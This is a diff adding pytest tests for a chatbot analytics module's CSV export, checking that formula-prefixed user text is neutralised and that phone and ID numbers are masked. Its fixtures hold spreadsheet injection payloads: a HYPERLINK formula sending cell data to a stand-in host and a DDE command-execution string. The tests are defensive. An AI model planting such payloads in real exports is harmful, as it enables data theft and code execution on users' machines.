@@ -165,3 +165,52 @@ def test_csv_has_chinese_headers_and_a_bom(events):
 def test_malformed_data_is_logged_not_fatal(caplog):
     row = EventRow.from_row({"id": 7, "sender_id": "s", "type_name": "user", "timestamp": NOON, "data": "{oops"})
     assert row.data == {} and "not JSON" in caplog.text
+
+
+# ---- hostile owner text in reports and exports -------------------------------------------------
+
+HOSTILE = {
+    "owner-x": (turn('=HYPERLINK("http://evil.example/?d="&A1,"点我领补贴")', "nlu_fallback",
+                     "action_fallback_options")
+                + turn("+cmd|' /C calc'!A0", "nlu_fallback", "action_fallback_options", at=NOON + 10)
+                + turn("-2+3 补贴", "out_of_scope", at=NOON + 20)
+                + turn("@SUM(1+1)", "nlu_fallback", "action_fallback_options", at=NOON + 30)
+                + turn("\t=1+1", "nlu_fallback", "action_fallback_options", at=NOON + 40)
+                + turn("\r=1+1 回车", "nlu_fallback", "action_fallback_options", at=NOON + 50)),
+    "owner-y": (turn("我电话13812345678，身份证11010519491231002X，帮我订机票", "out_of_scope", at=NOON + 60)
+                + turn("手机 139 8765 4321 能办吗", "nlu_fallback", "action_fallback_options", at=NOON + 70)),
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_report(tmp_path_factory):
+    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'tracker.db'}"
+    write_conversations(url, HOSTILE)
+    events = load_events(create_engine(url))
+    return build_report(events, policies=POLICIES, today=TODAY, days=7)
+
+
+def test_csv_cells_from_owner_text_are_never_formulas(hostile_report):
+    rows = list(csv.reader(io.StringIO(analytics.to_csv(hostile_report, "unanswered").lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in (row[0], row[3])]
+    assert len(rows) - 1 == 8
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我领补贴\")" in cells
+    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3 补贴" in cells and "'@SUM(1+1)" in cells
+
+
+@pytest.mark.parametrize("value,safe", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("＝1+1", "'＝1+1"), ("补贴 = 多少", "补贴 = 多少"), ("", ""),
+])
+def test_neutralise(value, safe):
+    assert analytics.neutralise(value) == safe
+
+
+def test_phone_and_id_numbers_are_masked_in_the_report_and_csv(hostile_report):
+    shown = repr(hostile_report["unanswered"])
+    exported = analytics.to_csv(hostile_report, "unanswered")
+    for text_ in (shown, exported):
+        assert "13812345678" not in text_ and "11010519491231002X" not in text_ and "8765 4321" not in text_
+        assert "138****5678" in text_ and "110105********002X" in text_ and "139****4321" in text_
